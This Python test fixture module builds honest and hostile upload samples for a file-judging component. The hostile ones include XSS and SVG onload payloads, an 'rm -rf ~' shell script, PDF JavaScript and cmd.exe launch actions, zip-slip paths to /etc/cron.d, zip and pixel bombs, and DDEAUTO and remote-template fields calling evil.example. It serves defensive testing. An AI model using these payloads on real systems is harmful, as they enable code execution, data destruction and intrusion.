"""Files that come in: honest ones of each kind, and hostile ones with the code of the words they are refused with."""

import hashlib
import io
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
from PIL import Image

from mediation.uploads.judging import Judged
from mediation.uploads.kinds import MEDIA

HTML = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00" + bytes(200)


def picture(form="JPEG", size=(640, 480), **more):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, form, **more)
    return out.getvalue()


def photo():
    """From a phone: lying on its side, with place and camera."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x8825] = 6, "CANARYPHONE", {1: "N", 2: (29.0, 42.0, 0.0)}
    return picture(size=(800, 600), exif=exif, comment=b"CANARYCOMMENT")


def pdf(pages=2, edit=None, **save):
    book, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        book.add_blank_page()
    if edit:
        edit(book)
    book.save(out, **save)
    return out.getvalue()


def script(book):
    book.Root.OpenAction = book.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    book.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")))
    tree = pikepdf.Dictionary(Names=[pikepdf.String("a"), pikepdf.Dictionary(JS=pikepdf.String("app.alert(2)"))])
    book.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def launch(book):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    book.pages[0].Annots = pikepdf.Array([book.make_indirect(link)])


def launch_elsewhere(book):
    """The action of a link from before there was one, which some readers still take."""
    launch(book)
    book.pages[0].Annots[0].PA = book.pages[0].Annots[0].A
    del book.pages[0].Annots[0].A


def link(book, address):
    launch(book)
    book.pages[0].Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address))


def attached(book):
    book.attachments["virus.exe"] = EXE


def signed(book):
    value = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=[0, 1, 2, 3], Contents=pikepdf.String("x" * 50))
    book.Root.AcroForm = pikepdf.Dictionary(SigFlags=3, Fields=[])
    book.Root.SignedValue = book.make_indirect(value)


def signed_script(book):
    signed(book)
    script(book)


@cache
def ten_thousand_pages():
    return pdf(10_000)


def archive(entries, **more):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in entries.items():
            book.writestr(name, data)
    return out.getvalue()


RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
DOCX = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>", "_rels/.rels": RELS % b""}
XLSX = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
OFD = {"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<Document/>"}


def linked(kind, name="word/_rels/settings.xml.rels", mode=b"External"):
    link = b'<Relationship Id="a" Type="http://x/%s" Target="http://evil.example/a" TargetMode="%s"/>' % (kind, mode)
    return archive(DOCX | {name: RELS % link})


def field(*runs, encoding="UTF-8"):
    """A text with a field whose code is cut up into runs."""
    parts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    text = f'<?xml version="1.0" encoding="{encoding}"?><w:document xmlns:w="http://x/main">{begin}{parts}{end}'
    return archive(DOCX | {"word/document.xml": f"{text}</w:document>".encode(encoding)})


def simple_field(code):
    text = f'<w:document xmlns:w="http://x/main"><w:fldSimple w:instr="{code}"/></w:document>'
    return archive(DOCX | {"word/header1.xml": text.encode()})


def box(name, data=b""):
    return struct.pack(">I", len(data) + 8) + name + data


def video(brand=b"isom"):
    return box(b"ftyp", brand + bytes(4)) + box(b"moov", bytes(40)) + box(b"mdat", bytes(400))


def music(frames=6):
    return b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + (b"\xff\xfb\x90\x00" + bytes(413)) * frames


def png_of(width, height):
    """A small file that says it is a huge picture."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")


def twice():
    """An archive with two parts of one name: programs differ in which of them they read."""
    data = archive(DOCX | {"word/documenu.xml": b"<other/>"})
    return data.replace(b"word/documenu.xml", b"word/document.xml")


def lying_size():
    """An archive whose directory says that a large part is small."""
    data = archive(DOCX | {"word/media/a.png": bytes(9_000_000)})
    return data.replace(struct.pack("<I", 9_000_000), struct.pack("<I", 900))


HONEST = {
    "IMG_0001.JPG": (photo, "jpeg"), "截图.png": (lambda: picture("PNG"), "png"),
    "a.webp": (lambda: picture("WEBP"), "webp"), "送达回证.pdf": (pdf, "pdf"),
    "答复.docx": (lambda: archive(DOCX), "docx"), "工资表.xlsx": (lambda: archive(XLSX), "xlsx"),
    "裁决书.ofd": (lambda: archive(OFD), "ofd"), "拒收.mp4": (video, "mp4"),
    "拒收.MOV": (lambda: video(b"qt  "), "mp4"),
    "录音.m4a": (lambda: video(b"M4A "), "m4a"), "录音.mp3": (music, "mp3"),
    "signed.pdf": (lambda: pdf(edit=signed), "pdf"), "linked.docx": (lambda: linked(b"hyperlink"), "docx"),
    "fields.docx": (lambda: field(' HYPERLINK "http://e.org/', 'LINK a"'), "docx"),
    "page.docx": (lambda: simple_field(" PAGE "), "docx"),
}  # fmt: skip

HOSTILE = {
    "page.png": (lambda: HTML, "kind"), "page.html": (lambda: HTML, "kind"), "drawing.svg": (lambda: SVG, "kind"),
    "drawing.jpg": (lambda: SVG, "kind"), "photo.jpg": (lambda: EXE, "kind"), "run.exe": (lambda: EXE, "kind"),
    "elf.pdf": (lambda: b"\x7fELF" + bytes(99), "kind"), "plain.txt": (lambda: b"hello", "kind"),
    "shell.sh": (lambda: b"#!/bin/sh\nrm -rf ~", "kind"), "one.gif": (lambda: picture("GIF"), "kind"),
    "scan.tiff": (lambda: picture("TIFF"), "kind"), "old.doc": (lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "old_office"),
    "photo.heic": (lambda: box(b"ftyp", b"heic" + bytes(4)) + box(b"mdat", bytes(99)), "heic"),
    "cut.jpg": (lambda: photo()[:900], "damaged"), "head.jpg": (lambda: b"\xff\xd8\xff\xe0" + HTML, "damaged"),
    "cut.png": (lambda: picture("PNG", (900, 900))[:200], "damaged"),
    "head.png": (lambda: b"\x89PNG\r\n\x1a\n" + HTML, "damaged"),
    "flood.png": (lambda: png_of(50_000, 50_000), "pixels"), "flat.png": (lambda: png_of(2**31 - 1, 1), "pixels"),
    "large.png": (lambda: picture("PNG", (9_000, 7_000)), "pixels"),
    "locked.pdf": (lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "encrypted"),
    "half_locked.pdf": (lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "encrypted"),
    "ten_thousand.pdf": (ten_thousand_pages, "pages"), "none.pdf": (lambda: b"%PDF-1.7\n" + HTML, "damaged"),
    "cut.pdf": (lambda: pdf()[:60], "damaged"), "signed_script.pdf": (lambda: pdf(edit=signed_script), "signed_active"),
    "signed_tail.pdf": (lambda: pdf(edit=signed) + HTML * 40, "signed_active"),
    "empty.zip": (lambda: archive({"a.txt": b"x"}), "kind"),
    "page.docx": (lambda: archive({"index.html": HTML}), "kind"),
    "macro.docm": (lambda: archive(DOCX | {"word/vbaProject.bin": b"x"}), "macros"),
    "macro.xlsx": (lambda: archive(XLSX | {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "inside.docx": (lambda: archive(DOCX | {"word/embeddings/oleObject1.bin": EXE}), "macros"),
    "exe.docx": (lambda: archive(DOCX | {"word/media/a.exe": EXE}), "macros"),
    "slip.docx": (lambda: archive(DOCX | {"../../etc/cron.d/x.xml": b"<a/>"}), "damaged"),
    "root.docx": (lambda: archive(DOCX | {"/etc/x.xml": b"<a/>"}), "damaged"),
    "backslash.docx": (lambda: archive(DOCX | {"..\\..\\x.xml": b"<a/>"}), "damaged"),
    "bomb.docx": (lambda: archive(DOCX | {"word/media/a.png": bytes(60_000_000)}), "bomb"),
    "many.docx": (lambda: archive(DOCX | {f"word/{n}.xml": b"" for n in range(3_001)}), "bomb"),
    "lying.docx": (lying_size, "damaged"), "twice.docx": (twice, "damaged"),
    "case.docx": (lambda: archive(DOCX | {"WORD/DOCUMENT.XML": b"<other/>"}), "damaged"),
    "before.docx": (lambda: b"PK\x03\x04" + HTML + archive(DOCX), "damaged"),
    "behind.docx": (lambda: archive(DOCX) + HTML, "damaged"),
    "template.docx": (lambda: linked(b"attachedTemplate"), "links"),
    "picture.docx": (lambda: linked(b"image"), "links"),
    "ending.docx": (lambda: linked(b"attachedTemplate", "word/_rels/settings.xml.RELS"), "links"),
    "mode.docx": (lambda: linked(b"image", mode=b"external"), "links"),
    "chunk.docx": (lambda: linked(b"aFChunk", mode=b"Internal"), "macros"),
    "dde.docx": (lambda: field(' DDEAUTO c:\\\\cmd.exe "/k calc.exe"'), "links"),
    "cut_dde.docx": (lambda: field(" D", "DE", " Excel a"), "links"),
    "wide_dde.docx": (lambda: field("DDE cmd a", encoding="UTF-16"), "links"),
    "include.docx": (lambda: simple_field(" includepicture http://evil.example/a"), "links"),
    "link.docx": (lambda: simple_field("LINK Excel.Sheet.8 a"), "links"),
    "spelled.docx": (lambda: simple_field("QUOTE 68 68 69"), "links"),
    "torn.docx": (lambda: archive(DOCX | {"word/document.xml": b"<a><instrText>"}), "damaged"),
    "laughs.docx": (lambda: archive(DOCX | {"_rels/.rels": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
    "cut.mp4": (lambda: video()[:-90], "damaged"), "page.mp4": (lambda: box(b"ftyp", b"isom") + HTML, "damaged"),
    "cut.mp3": (lambda: music(2), "damaged"), "page.mp3": (lambda: b"ID3" + HTML, "damaged"),
}  # fmt: skip


def taken(name="送达回证.pdf", data=b"%PDF-1.7 a scan", code="pdf"):
    """A file as it stands after it was judged, without asking the judge."""
    digest = hashlib.sha256(data).hexdigest()
    small = data[:9] if MEDIA[code].is_picture else b""
    return Judged(name, name, MEDIA[code], data, small, digest, digest)
